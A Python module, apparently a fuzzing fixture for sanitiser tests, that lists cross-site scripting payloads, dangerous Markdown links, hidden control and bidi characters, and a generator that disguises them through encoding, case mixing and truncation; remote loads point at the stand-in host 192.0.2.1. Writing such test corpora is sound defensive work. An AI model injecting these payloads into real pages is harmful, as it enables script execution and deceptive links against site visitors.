"""Texts that would run, draw, fetch or hide if a page ever took them for more than text."""

import random
from collections.abc import Iterator

AWAY = "http://192.0.2.1"
RUN = "window.ran=1"
SCRIPTS = (
    "<script>{run}</script>",
    "<script src={away}/x.js></script>",
    "<img src=x onerror={run}>",
    "<img src={away}/x.png>",
    "<svg onload={run}><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><script>{run}</script></svg>",
    "<svg><use href='{away}/x.svg#a'/></svg>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src='javascript:{run}'></iframe>",
    "<a href='javascript:{run}'>here</a>",
    "<form action={away}><button>go</button></form>",
    "<style>@import url({away}/x.css);*{{background:url({away}/y)}}</style>",
    "<link rel=stylesheet href={away}/x.css>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<base href={away}/>",
    "<object data={away}/x></object><embed src={away}/y>",
    "<video poster={away}/p><source onerror={run}></video>",
    "<details open ontoggle={run}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "</script><script>{run}</script>",
    "--></style></title></textarea></noscript><script>{run}</script>",
    "<!--<script>{run}</script>",
    "<!-- <![CDATA[ ]]> <?xml ?>",
    "<x style=background:url({away}/z) onmouseover={run} autofocus onfocus={run} tabindex=1>",
    "{{{{constructor.constructor('{run}')()}}}} ${{{run}}} #{{{run}}}",
)
LINKS = (
    "[here](javascript:{run})",
    "[here](JaVaScRiPt:{run})",
    "[here]( javascript:{run} )",
    "[here](\tjava\nscript:{run})",
    "[here](data:text/html,<script>{run}</script>)",
    "[here](vbscript:x)",
    "[here](file:secret)",
    "[here](//192.0.2.1/x)",
    "[here](http://user:pass@192.0.2.1/)",
    "[https://bank.example](http://192.0.2.1/)",
    "![picture]({away}/p.png)",
    "![picture](data:image/svg+xml,<svg onload={run}>)",
    "[ref]: javascript:{run}\n[ref]",
    "<javascript:{run}>",
    "http://192.0.2.1/\"onmouseover='{run}'",
    "https://192.0.2.1/<script>{run}</script>",
    "[a](http://192.0.2.1/)[b](javascript:{run})",
)
HIDDEN = ("\x00", "\x1b[2J", "\u202e", "\u2066", "\u200b", "\ufeff", "\u2028", "\x9b31m", "\U000e0041", "\u0301" * 40)
WRAPPED = ("{}", "**{}**", "`{}`", "> {}", "- {}", "# {}", "```\n{}\n```", "1. {}", "*{}*", "[{}](http://192.0.2.1/)")


def payloads(chance: random.Random) -> Iterator[str]:
    """One after another, each of them once as it is and then in ever other clothes."""
    plain = [form.format(run=RUN, away=AWAY) for form in (*SCRIPTS, *LINKS)]
    yield from (*plain, *HIDDEN)
    while True:
        text = chance.choice(plain)
        yield _dressed(text, chance)


def _dressed(text: str, chance: random.Random) -> str:
    match chance.randrange(6):
        case 0:
            text = "".join(chance.choice((sign, sign.upper(), sign.lower())) for sign in text)
        case 1:
            at = chance.randrange(len(text))
            text = text[:at] + chance.choice(HIDDEN) + text[at:]
        case 2:
            text = text.replace("<", chance.choice(("&lt;", "\\u003c", "%3C", "\uff1c", "<<", "< ")))
        case 3:
            text = text[: chance.randrange(1, len(text))]
        case 4:
            text = text + chance.choice(('"', "'", "`", "-->", "]]>", "\\", "</")) + text
        case _:
            pass
    return chance.choice(WRAPPED).format(text)
